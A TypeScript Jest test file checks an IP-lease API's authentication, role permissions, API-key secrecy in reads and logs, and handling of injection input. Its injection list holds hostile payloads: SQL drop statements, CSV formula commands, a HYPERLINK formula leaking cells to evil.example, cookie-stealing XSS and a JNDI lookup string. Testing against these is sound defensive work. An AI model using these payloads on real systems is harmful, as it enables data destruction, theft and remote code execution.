import fc from 'fast-check';
import { createHash, randomUUID } from 'node:crypto';
import { Writable } from 'node:stream';
import { displayPrefix, generateApiKey, hashApiKey } from '../../src/auth/api-key.crypto';
import type { Role } from '../../src/common/request-context';
import { FuzzWorld, validValue } from '../support/openapi-arbitraries';
import {
  AnyResponse,
  contractViolation,
  diffSnapshots,
  expectProblem,
  fetchOpenApi,
  listOperations,
  OpenApiDocument,
  Operation,
  publicTables,
  rawRequest,
  RawResponse,
  resourceOfParam,
  snapshotTables,
  WRITE_METHODS,
} from '../support/openapi-spec';
import { seedFuzzWorld } from '../support/fixtures';
import { ADMIN_KEY, bearer, startTestApp, TestApp } from '../support/test-app';

/**
 * Security checks (issue 6, item 5), table-driven over every operation of /docs-json.
 *
 * The expected permission of a route is derived from its path and method by the explicit table
 * below — deliberately not from the @Allow decorators, which are what is under test. A route the
 * table cannot classify fails the suite, so a new route cannot be forgotten.
 */

jest.setTimeout(120_000);

const ROLES: Role[] = ['admin', 'engineer', 'finance', 'viewer'];

type Permission =
  | 'public'
  | 'read-inventory'
  | 'write-inventory'
  | 'edit-lease'
  | 'money'
  | 'read-audit'
  | 'reports'
  | 'api-keys'
  | 'admin-only';

/** The contract's role table (API.md, Auth): who may do what. */
const ALLOWED: Record<Exclude<Permission, 'public'>, Role[]> = {
  'read-inventory': ['admin', 'engineer', 'finance', 'viewer'],
  'write-inventory': ['admin', 'engineer'],
  // Roles for money (API.md v2): engineers edit a lease's non-financial fields, finance owns its money.
  'edit-lease': ['admin', 'engineer', 'finance'],
  money: ['admin', 'finance'],
  'read-audit': ['admin', 'engineer', 'finance'],
  reports: ['admin', 'finance'],
  'api-keys': ['admin'],
  'admin-only': ['admin'],
};

/** Public without a key (API.md, Auth; the /reports page itself is public, its data is not). */
const PUBLIC_GETS = new Set([
  '/health',
  '/health/ready',
  '/metrics',
  '/docs',
  '/docs-json',
  '/geofeed.csv',
  '/reports',
  '/reports/routing',
]);
const INVENTORY = /^\/api\/v1\/(lessors|providers|regions|leases|allocations|lookup)(\/|$)/;

const MONEY_WRITES = /^\/api\/v1\/leases\/\{id\}(\/(terminate|renew|amendments))?$/;
const PRICE_FIELDS = /"(pricePerIpMonthly|currency)"/;

/** `body` matters for one route: a lease PATCH that changes the price is money. */
function classify(method: string, path: string, body?: string): Permission | undefined {
  const get = method.toLowerCase() === 'get';
  if (PUBLIC_GETS.has(path)) return get ? 'public' : undefined;
  if (!get && path === '/api/v1/leases/{id}' && method.toLowerCase() === 'patch')
    return body !== undefined && PRICE_FIELDS.test(body) ? 'money' : 'edit-lease';
  if (!get && MONEY_WRITES.test(path) && !(path === '/api/v1/leases/{id}' && method.toLowerCase() !== 'delete'))
    return 'money';
  if (/^\/api\/v1\/periods(\/|$)/.test(path))
    return get ? 'reports' : path.endsWith('/reopen') ? 'admin-only' : 'money';
  if (INVENTORY.test(path)) return get ? 'read-inventory' : 'write-inventory';
  if (/^\/api\/v1\/audit-events(\/|$)/.test(path)) return get ? 'read-audit' : undefined; // the audit trail has no writes
  if (path === '/api/v1/reports/routing') return get ? 'read-inventory' : undefined; // every role (API.md)
  if (/^\/api\/v1\/reports\/[^/]+$/.test(path)) return get ? 'reports' : undefined;
  if (/^\/api\/v1\/(fx-rates|invoices)(\/|$)/.test(path)) return 'money';
  if (/^\/api\/v1\/api-keys(\/|$)/.test(path)) return 'api-keys';
  if (/^\/api\/v1\/events$/.test(path)) return get ? 'read-inventory' : undefined; // the feed has no writes
  if (/^\/api\/v1\/webhooks(\/|$)/.test(path)) return 'admin-only';
  if (/^\/api\/v1\/imports\/[^/]+$/.test(path)) return method.toLowerCase() === 'post' ? 'write-inventory' : undefined;
  if (/^\/api\/v1\/(rpki|reputation-lists)(\/|$)/.test(path)) return get ? 'read-inventory' : 'write-inventory';
  return undefined;
}

const NIL_UUID = '00000000-0000-4000-8000-000000000000';

/** RFC 4180: quoted cells may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') endCell();
    else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i++;
      endCell();
      rows.push(row);
      row = [];
    } else cell += c;
  }
  if (cell || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

describe('security', () => {
  let t: TestApp;
  let doc: OpenApiDocument;
  let ops: Operation[];
  let tables: string[];
  let world: FuzzWorld;
  const keys = new Map<Role, string>();

  beforeAll(async () => {
    t = await startTestApp();
    doc = await fetchOpenApi(t);
    ops = listOperations(doc);
    tables = await publicTables(t.pool);
    world = await seedFuzzWorld(t);
    for (const role of ROLES) keys.set(role, await t.keyFor(role));
  });
  afterAll(async () => {
    await t?.close();
  });

  const protectedOps = () => ops.filter((op) => classify(op.method, op.path) !== 'public');

  /** A concrete path: seeded ids (or a nil UUID), so that a request the guard let through could really act. */
  function pathFor(op: Operation, real = true): string {
    return op.path.replace(/\{([^}]+)\}/g, (_, name: string) => {
      const pool = world.ids[resourceOfParam(op.path, name) ?? ''];
      return real && pool?.length ? pool[0] : NIL_UUID;
    });
  }

  /** Required query parameters and a schema-valid body, so a refusal cannot be blamed on the input. */
  function requestFor(op: Operation, real = true): { path: string; body?: string } {
    const query = op.queryParams
      .filter((p) => p.required)
      .map((p) => {
        const [value] = fc.sample(validValue(doc, world, p.schema, p.name), { numRuns: 1, seed: 42 });
        return `${encodeURIComponent(p.name)}=${encodeURIComponent(typeof value === 'string' ? value : JSON.stringify(value))}`;
      })
      .join('&');
    const path = pathFor(op, real) + (query ? `?${query}` : '');
    if (!op.body) return { path };
    const [body] = fc.sample(validValue(doc, world, op.body), { numRuns: 1, seed: 42 });
    return { path, body: JSON.stringify(body) };
  }

  async function call(op: Operation, headers: Record<string, string>, real = true): Promise<RawResponse> {
    const { path, body } = requestFor(op, real);
    return rawRequest(t.baseUrl, { method: op.method.toUpperCase(), path, headers, body });
  }

  /** Runs `request` and reports when it is a write that changed a table. */
  async function unchanged(
    op: Operation,
    request: () => Promise<RawResponse>,
  ): Promise<{ res: RawResponse; changed: string[] }> {
    const before = WRITE_METHODS.has(op.method) ? await snapshotTables(t.pool, tables) : undefined;
    const res = await request();
    const changed = before ? diffSnapshots(before, await snapshotTables(t.pool, tables)) : [];
    return { res, changed };
  }

  describe('the route table', () => {
    it('serves a spec with at least 20 operations', () => {
      expect(ops.length).toBeGreaterThanOrEqual(20);
    });

    it('classifies every operation of the spec (a new route must be added to the table)', () => {
      const unclassified = ops.filter((op) => classify(op.method, op.path) === undefined).map((op) => op.label);
      expect(unclassified).toEqual([]);
    });

    it('documents bearer auth exactly on the routes that need a key', () => {
      const mismatched = ops
        .filter((op) => (classify(op.method, op.path) === 'public') === op.declaresAuth)
        .map(
          (op) =>
            `${op.label}: ${op.declaresAuth ? 'declares bearer auth but is public' : 'needs a key but declares no security'}`,
        );
      expect(mismatched).toEqual([]);
    });

    it('covers every permission class with at least one route', () => {
      const classes = new Set(ops.map((op) => classify(op.method, op.path)));
      for (const permission of [
        'read-inventory',
        'write-inventory',
        'edit-lease',
        'money',
        'read-audit',
        'api-keys',
      ] as const)
        expect(classes).toContain(permission);
    });
  });

  describe('authentication', () => {
    it('serves the public routes without a key', async () => {
      const failures: string[] = [];
      const paths = new Set([
        ...PUBLIC_GETS,
        ...ops.filter((op) => classify(op.method, op.path) === 'public').map((op) => op.path),
      ]);
      for (const path of paths) {
        const res = await rawRequest(t.baseUrl, { method: 'GET', path });
        if (res.status === 401 || res.status === 403 || res.status >= 500) failures.push(`GET ${path}: ${res.status}`);
      }
      expect(failures).toEqual([]);
      // The spec, at least, is certainly there and public.
      expect((await rawRequest(t.baseUrl, { method: 'GET', path: '/docs-json' })).status).toBe(200);
    });

    it('refuses every protected operation without a key: 401 UNAUTHENTICATED, nothing written', async () => {
      const failures: string[] = [];
      for (const op of protectedOps()) {
        const { res, changed } = await unchanged(op, () => call(op, {}));
        try {
          expectProblem(res, 401, 'UNAUTHENTICATED', op.label);
        } catch (e) {
          failures.push((e as Error).message);
        }
        if (changed.length) failures.push(`${op.label}: changed ${changed.join('; ')}`);
      }
      expect(protectedOps().length).toBeGreaterThanOrEqual(20);
      expect(failures).toEqual([]);
    });

    const adminHash = hashApiKey(ADMIN_KEY);
    const garbage: [string, string][] = [
      ['an unknown key', `Bearer ${generateApiKey()}`],
      ['plain garbage', 'Bearer garbage'],
      ['the admin key plus a character', `Bearer ${ADMIN_KEY}x`],
      ['the admin key minus a character', `Bearer ${ADMIN_KEY.slice(0, -1)}`],
      ['the admin key in upper case', `Bearer ${ADMIN_KEY.toUpperCase()}`],
      ['the stored hash of the admin key (hex)', `Bearer ${adminHash.toString('hex')}`],
      ['the stored hash of the admin key (base64)', `Bearer ${adminHash.toString('base64')}`],
      ['the display prefix of the admin key', `Bearer ${displayPrefix(ADMIN_KEY)}`],
      ['the admin key without a scheme', ADMIN_KEY],
      ['the admin key as Basic credentials', `Basic ${Buffer.from(`admin:${ADMIN_KEY}`).toString('base64')}`],
      ['the admin key with another scheme', `Token ${ADMIN_KEY}`],
      ['two keys', `Bearer ${ADMIN_KEY} ${ADMIN_KEY}`],
      ['an empty bearer', 'Bearer'],
      ['an empty header', ''],
      ['a 600-character token', `Bearer ${'a'.repeat(600)}`],
      ['a 6000-character token', `Bearer ${'a'.repeat(6000)}`],
      ['an SQL injection', "Bearer ' OR '1'='1"],
      ['non-ASCII bytes', 'Bearer \u00e9\u00ff\u00e0'],
    ];

    it.each(garbage)(
      'refuses %s on every protected operation: 401, nothing written, token not echoed',
      async (_name, authorization) => {
        const failures: string[] = [];
        const token = authorization.replace(/^\S+\s*/, '');
        for (const op of protectedOps()) {
          const { res, changed } = await unchanged(op, () => call(op, { Authorization: authorization }));
          try {
            expectProblem(res, 401, 'UNAUTHENTICATED', op.label);
          } catch (e) {
            failures.push((e as Error).message);
          }
          if (changed.length) failures.push(`${op.label}: changed ${changed.join('; ')}`);
          if (token.length >= 8 && res.text.includes(token)) failures.push(`${op.label}: echoes the token`);
        }
        expect(failures).toEqual([]);
      },
    );

    it('does not take a key from the query string or from other headers', async () => {
      const failures: string[] = [];
      for (const op of protectedOps()) {
        const { path, body } = requestFor(op);
        const sep = path.includes('?') ? '&' : '?';
        for (const [variant, p, headers] of [
          ['?api_key=', `${path}${sep}api_key=${ADMIN_KEY}`, {}],
          ['?access_token=', `${path}${sep}access_token=${ADMIN_KEY}`, {}],
          ['X-API-Key', path, { 'X-API-Key': ADMIN_KEY }],
          ['Cookie', path, { Cookie: `token=${ADMIN_KEY}` }],
        ] as [string, string, Record<string, string>][]) {
          const res = await rawRequest(t.baseUrl, { method: op.method.toUpperCase(), path: p, headers, body });
          if (res.status !== 401 || res.body?.code !== 'UNAUTHENTICATED')
            failures.push(`${op.label} with ${variant}: ${res.status}`);
        }
      }
      expect(failures).toEqual([]);
    });

    it('refuses a revoked key on every protected operation (revoked in SQL, and revoked through the API)', async () => {
      // Revoked behind the API's back.
      const sqlKey = generateApiKey();
      await t.pool.query(
        `INSERT INTO api_keys (name, role, key_hash, key_prefix, revoked_at) VALUES ('revoked-in-sql', 'admin', $1, $2, now())`,
        [hashApiKey(sqlKey), displayPrefix(sqlKey)],
      );
      // Revoked through the API: it works until the moment it is revoked.
      const created = await t.http
        .post('/api/v1/api-keys')
        .set(bearer())
        .send({ name: 'revoked-by-api', role: 'admin' })
        .expect(201);
      const apiKey = created.body.key as string;
      await t.http.get('/api/v1/lessors').set(bearer(apiKey)).expect(200);
      await t.http.delete(`/api/v1/api-keys/${created.body.id}`).set(bearer()).expect(204);

      const failures: string[] = [];
      for (const key of [sqlKey, apiKey]) {
        for (const op of protectedOps()) {
          const { res, changed } = await unchanged(op, () => call(op, { Authorization: `Bearer ${key}` }));
          try {
            expectProblem(res, 401, 'UNAUTHENTICATED', op.label);
          } catch (e) {
            failures.push((e as Error).message);
          }
          if (changed.length) failures.push(`${op.label}: changed ${changed.join('; ')}`);
        }
      }
      expect(failures).toEqual([]);
    });
  });

  describe('authorisation: every operation for every role', () => {
    it('answers 403 FORBIDDEN exactly where the role table forbids, and never 401/403 where it allows', async () => {
      const failures: string[] = [];
      const matrix: string[] = [];
      let forbiddenCount = 0;
      let allowedCount = 0;
      // Least privileged first, so an allowed destructive call (a release) happens after the refusals.
      for (const role of ['viewer', 'finance', 'engineer', 'admin'] as Role[]) {
        for (const op of protectedOps()) {
          const permission = classify(op.method, op.path, requestFor(op).body) as Exclude<Permission, 'public'>;
          const allowed = ALLOWED[permission].includes(role);
          const { res, changed } = await unchanged(op, () => call(op, { Authorization: `Bearer ${keys.get(role)}` }));
          matrix.push(`${role.padEnd(8)} ${op.label.padEnd(45)} ${res.status}`);
          const violation = contractViolation(res);
          if (violation) failures.push(`${role} ${op.label}: ${violation}`);
          if (allowed) {
            allowedCount++;
            if (res.status === 401 || res.status === 403)
              failures.push(
                `${role} ${op.label}: allowed by the table, answered ${res.status} ${res.text.slice(0, 200)}`,
              );
          } else {
            forbiddenCount++;
            if (res.status !== 403 || res.body?.code !== 'FORBIDDEN')
              failures.push(
                `${role} ${op.label}: forbidden by the table, answered ${res.status} ${res.text.slice(0, 200)}`,
              );
            if (changed.length) failures.push(`${role} ${op.label}: refused but changed ${changed.join('; ')}`);
          }
        }
      }
      if (failures.length) process.stdout.write(`${matrix.join('\n')}\n`);
      expect(failures).toEqual([]);
      expect(forbiddenCount).toBeGreaterThan(20);
      expect(allowedCount).toBeGreaterThan(20);
    });

    it('also forbids with a body that would really write (the guard decides before anything runs)', async () => {
      // A viewer sending a perfectly valid lessor: had the guard let it through, a row would exist.
      const viewer = keys.get('viewer') as string;
      const before = await snapshotTables(t.pool, tables);
      const res = await t.http
        .post('/api/v1/lessors')
        .set(bearer(viewer))
        .send({ name: `Viewer-made ${randomUUID()}`, rir: 'RIPE' });
      expectProblem(res as unknown as AnyResponse, 403, 'FORBIDDEN', 'viewer POST /api/v1/lessors');
      expect(diffSnapshots(before, await snapshotTables(t.pool, tables))).toEqual([]);
      // The same body is accepted from an engineer: the refusal above was the role, not the body.
      await t.http
        .post('/api/v1/lessors')
        .set(bearer(keys.get('engineer') as string))
        .send({ name: `Engineer-made ${randomUUID()}`, rir: 'RIPE' })
        .expect(201);
    });
  });

  describe('injection strings are data', () => {
    const STRINGS = [
      "'; DROP TABLE leases;--",
      "' OR '1'='1",
      "Robert'); DELETE FROM lessors;--",
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1)',
      // A tab before the formula is a control character, which names refuse (issue 10 S6, error-messages e2e).
      ' =1+1',
      '\u00a0=1+1',
      '<script>alert(1)</script>',
      '"><img src=x onerror=alert(document.cookie)>',
      '${jndi:ldap://evil.example/a}',
      '%_\\%',
    ];

    it.each(STRINGS)('stores %j verbatim (lessor, provider, region, lease, allocation, audit)', async (s) => {
      const n = randomUUID().slice(0, 8);
      const lessor = await t.http
        .post('/api/v1/lessors')
        .set(bearer())
        .send({ name: s, rir: 'RIPE', notes: s })
        .expect(201);
      expect(lessor.headers['content-type']).toMatch(/^application\/json/);
      expect(lessor.body).toMatchObject({ name: s, notes: s });
      const provider = await t.http
        .post('/api/v1/providers')
        .set(bearer())
        .send({ code: `inj-${n}`, name: s, notes: s })
        .expect(201);
      const region = await t.http
        .post('/api/v1/regions')
        .set(bearer())
        .send({ code: `inj-${n}`, name: s, countryCode: 'IE' })
        .expect(201);
      const block = Number.parseInt(n.slice(0, 4), 16) % 256;
      const lease = await t.http
        .post('/api/v1/leases')
        .set(bearer())
        .send({
          prefix: `46.${block}.${Number.parseInt(n.slice(4, 6), 16)}.0/24`,
          lessorId: lessor.body.id,
          startDate: '2025-01-01',
          pricePerIpMonthly: '0.5000',
          currency: 'USD',
          notes: s,
          contractRef: s,
          tags: ['injection'],
        });
      expect(lease.status).toBe(201);
      const allocation = await t.http
        .post('/api/v1/allocations')
        .set(bearer())
        .send({
          prefixLength: 28,
          leaseId: lease.body.id,
          regionId: region.body.id,
          providerId: provider.body.id,
          description: s,
        })
        .expect(201);

      // Read back through GET by id: byte for byte.
      const reads: [string, Record<string, unknown>][] = [
        [`/api/v1/lessors/${lessor.body.id}`, { name: s, notes: s }],
        [`/api/v1/providers/${provider.body.id}`, { name: s, notes: s }],
        [`/api/v1/regions/${region.body.id}`, { name: s }],
        [`/api/v1/leases/${lease.body.id}`, { notes: s, contractRef: s }],
        [`/api/v1/allocations/${allocation.body.id}`, { description: s }],
      ];
      for (const [path, expected] of reads) {
        const res = await t.http.get(path).set(bearer()).expect(200);
        expect(res.headers['content-type']).toMatch(/^application\/json/);
        expect(res.headers['x-content-type-options']).toBe('nosniff');
        expect(res.body).toMatchObject(expected);
      }
      // Filters take them literally too (no LIKE wildcards, no SQL).
      const byName = await t.http.get('/api/v1/lessors').query({ q: s, limit: 500 }).set(bearer()).expect(200);
      expect(byName.body.items.map((l: { id: string }) => l.id)).toContain(lessor.body.id);
      expect(
        byName.body.items.filter((l: { name: string }) => !l.name.toLowerCase().includes(s.toLowerCase())),
      ).toEqual([]);
      // Tags are slugs: the same text is refused there (400), not stored mangled.
      const tagged = await t.http.get('/api/v1/leases').query({ tag: s }).set(bearer());
      expect(tagged.status).toBe(400);
      // The audit trail keeps the same text.
      const audit = await t.http
        .get('/api/v1/audit-events')
        .query({ entityType: 'lessor', entityId: lessor.body.id })
        .set(bearer())
        .expect(200);
      expect(audit.body.items[0].after).toMatchObject({ name: s, notes: s });
      // And the tables are all still there.
      expect(Number((await t.pool.query('SELECT count(*) FROM leases')).rows[0].count)).toBeGreaterThan(0);
    });

    it('treats % and _ in the lessor name filter as literal characters', async () => {
      const pct = await t.http
        .post('/api/v1/lessors')
        .set(bearer())
        .send({ name: `100% Uptime ${randomUUID()}`, rir: 'ARIN' })
        .expect(201);
      const und = await t.http
        .post('/api/v1/lessors')
        .set(bearer())
        .send({ name: `Under_score ${randomUUID()}`, rir: 'ARIN' })
        .expect(201);
      const all = async (q: string) => {
        const names: string[] = [];
        let cursor: string | null = null;
        do {
          const res: { body: { items: { name: string }[]; nextCursor: string | null }; text: string } = await t.http
            .get('/api/v1/lessors')
            .query({ q, limit: 500, ...(cursor ? { cursor } : {}) })
            .set(bearer())
            .expect(200);
          names.push(...res.body.items.map((l: { name: string }) => l.name));
          cursor = res.body.nextCursor;
        } while (cursor);
        return names;
      };
      const withPct = await all('%');
      expect(withPct).toContain(pct.body.name);
      expect(withPct.every((n) => n.includes('%'))).toBe(true);
      const withUnd = await all('_');
      expect(withUnd).toContain(und.body.name);
      expect(withUnd.every((n) => n.includes('_'))).toBe(true);
    });

    it('neutralises formula cells in report CSV while the JSON keeps the text verbatim', async () => {
      const reportOp = ops.find((op) => op.path === '/api/v1/reports/monthly-cost');
      expect(reportOp).toBeDefined();
      const lessor = await t.http
        .post('/api/v1/lessors')
        .set(bearer())
        .send({ name: `=HYPERLINK("http://evil.example","${randomUUID()}")`, rir: 'RIPE' })
        .expect(201);
      await t.http
        .post('/api/v1/leases')
        .set(bearer())
        .send({
          prefix: '47.1.2.0/24',
          lessorId: lessor.body.id,
          startDate: '2025-01-01',
          pricePerIpMonthly: '1.0000',
          currency: 'USD',
        })
        .expect(201);
      const json = await t.http
        .get('/api/v1/reports/monthly-cost')
        .query({ month: '2025-06', groupBy: 'lessor' })
        .set(bearer())
        .expect(200);
      expect(json.body.rows.map((r: { label: string }) => r.label)).toContain(lessor.body.name);
      const csv = await t.http
        .get('/api/v1/reports/monthly-cost')
        .query({ month: '2025-06', groupBy: 'lessor', format: 'csv' })
        .set(bearer())
        .expect(200);
      expect(csv.headers['content-type']).toMatch(/^text\/csv/);
      const cells = parseCsv(csv.text).flat();
      expect(cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-(?!\d+(\.\d+)?$)/.test(c))).toEqual([]);
      expect(cells).toContain(`'${lessor.body.name}`);
    });
  });

  describe('API keys are never shown again', () => {
    it('keeps the secret and its hash out of every read after creation', async () => {
      const created = await t.http
        .post('/api/v1/api-keys')
        .set(bearer())
        .send({ name: 'secret-keeper', role: 'engineer' })
        .expect(201);
      const key = created.body.key as string;
      expect(key).toMatch(/^ipl_/);
      const hash = hashApiKey(key);
      const secrets = [key, hash.toString('hex'), hash.toString('base64'), hash.toString('base64url'), key.slice(4)];
      await t.http.get('/api/v1/lessors').set(bearer(key)).expect(200);

      const reads: string[] = [];
      for (let cursor: string | null = null, first = true; first || cursor; first = false) {
        const res = await t.http
          .get('/api/v1/api-keys')
          .query({ limit: 500, ...(cursor ? { cursor } : {}) })
          .set(bearer())
          .expect(200);
        expect(res.body.items.every((k: Record<string, unknown>) => !('key' in k) && !('keyHash' in k))).toBe(true);
        reads.push(res.text);
        cursor = res.body.nextCursor as string | null;
      }
      reads.push((await t.http.get(`/api/v1/api-keys/${created.body.id}`).set(bearer()).expect(200)).text);
      reads.push(
        (
          await t.http
            .get('/api/v1/audit-events')
            .query({ entityType: 'api_key', limit: 500 })
            .set(bearer())
            .expect(200)
        ).text,
      );
      reads.push(
        (await t.http.get('/api/v1/audit-events').query({ entityId: created.body.id }).set(bearer()).expect(200)).text,
      );
      // Errors caused by the key do not show it either.
      reads.push((await t.http.get('/api/v1/api-keys').set(bearer(key)).expect(403)).text);
      reads.push((await t.http.get('/api/v1/lessors/not-a-uuid').set(bearer(key)).expect(400)).text);
      // A replay of the creating request omits it.
      const idem = { 'Idempotency-Key': randomUUID() };
      const first = await t.http
        .post('/api/v1/api-keys')
        .set(bearer())
        .set(idem)
        .send({ name: 'replayed', role: 'viewer' })
        .expect(201);
      const replay = await t.http
        .post('/api/v1/api-keys')
        .set(bearer())
        .set(idem)
        .send({ name: 'replayed', role: 'viewer' })
        .expect(201);
      expect(replay.headers['idempotent-replayed']).toBe('true');
      expect(replay.text).not.toContain(first.body.key);

      for (const text of reads) for (const secret of secrets) expect(text).not.toContain(secret);
      // Nor is it stored in clear anywhere in the database.
      const dump = await t.pool.query(`SELECT string_agg(to_jsonb(x)::text, '') AS t FROM (SELECT * FROM api_keys) x`);
      expect(dump.rows[0].t).not.toContain(key);
      for (const table of ['audit_events', 'idempotency_keys'].filter((x) => tables.includes(x))) {
        const rows = await t.pool.query(
          `SELECT coalesce(string_agg(to_jsonb(x)::text, ''), '') AS t FROM "${table}" x`,
        );
        expect(rows.rows[0].t).not.toContain(key);
        expect(rows.rows[0].t).not.toContain(first.body.key);
      }
    });
  });

  describe('API keys never reach the logs', () => {
    let logged: TestApp;
    const chunks: string[] = [];
    const memory = new Writable({
      write(chunk: Buffer, _enc, done) {
        chunks.push(chunk.toString('utf8'));
        done();
      },
    });

    beforeAll(async () => {
      logged = await startTestApp({}, undefined, { logDestination: memory, logLevel: 'trace' });
    });
    afterAll(async () => {
      await logged?.close();
    });

    it('logs requests, errors and key management without any key, hash or admin secret', async () => {
      const requestIds: string[] = [];
      const as = (key: string) => {
        const id = `sec-log-${randomUUID()}`;
        requestIds.push(id);
        return { Authorization: `Bearer ${key}`, 'X-Request-Id': id };
      };
      const created = await logged.http
        .post('/api/v1/api-keys')
        .set(as(ADMIN_KEY))
        .send({ name: 'log-test', role: 'engineer' })
        .expect(201);
      const key = created.body.key as string;
      const unknown = generateApiKey();
      const viewer = await logged.keyFor('viewer');

      await logged.http.get('/api/v1/lessors').set(as(key)).expect(200);
      await logged.http.post('/api/v1/lessors').set(as(key)).send({ name: 'Logged Ltd', rir: 'RIPE' }).expect(201);
      await logged.http.post('/api/v1/lessors').set(as(key)).send({ name: 'Logged Ltd', rir: 'RIPE' }).expect(409);
      await logged.http.post('/api/v1/lessors').set(as(key)).send({ name: 42 }).expect(400);
      await logged.http
        .post('/api/v1/lessors')
        .set(as(key))
        .set('Content-Type', 'application/json')
        .send('{"broken')
        .expect(400);
      await logged.http.get('/api/v1/api-keys').set(as(key)).expect(403);
      await logged.http.get('/api/v1/api-keys').set(as(viewer)).expect(403);
      await logged.http.get('/api/v1/lessors').set(as(unknown)).expect(401);
      await logged.http.get(`/api/v1/lessors/${NIL_UUID}`).set(as(key)).expect(404);
      await logged.http
        .post('/api/v1/lessors')
        .set(as(key))
        .set('Idempotency-Key', randomUUID())
        .send({ name: 'Idem Ltd', rir: 'RIPE' })
        .expect(201);
      await logged.http.delete(`/api/v1/api-keys/${created.body.id}`).set(as(ADMIN_KEY)).expect(204);
      await logged.http.get('/api/v1/lessors').set(as(key)).expect(401);
      await new Promise((resolve) => setImmediate(resolve));

      const text = chunks.join('');
      // The logs are there and do describe these requests (so the absence below means something).
      for (const id of requestIds) expect(text).toContain(id);
      expect(text).toMatch(/"statusCode":401/);

      const secrets = [ADMIN_KEY, key, unknown, viewer];
      for (const secret of secrets) {
        const hash = hashApiKey(secret);
        for (const form of [
          secret,
          secret.slice(4),
          hash.toString('hex'),
          hash.toString('base64'),
          createHash('sha256').update(secret).digest('base64url'),
        ]) {
          expect({ secret: `${secret.slice(0, 8)}…`, found: text.includes(form) }).toEqual({
            secret: `${secret.slice(0, 8)}…`,
            found: false,
          });
        }
      }
    });
  });
});
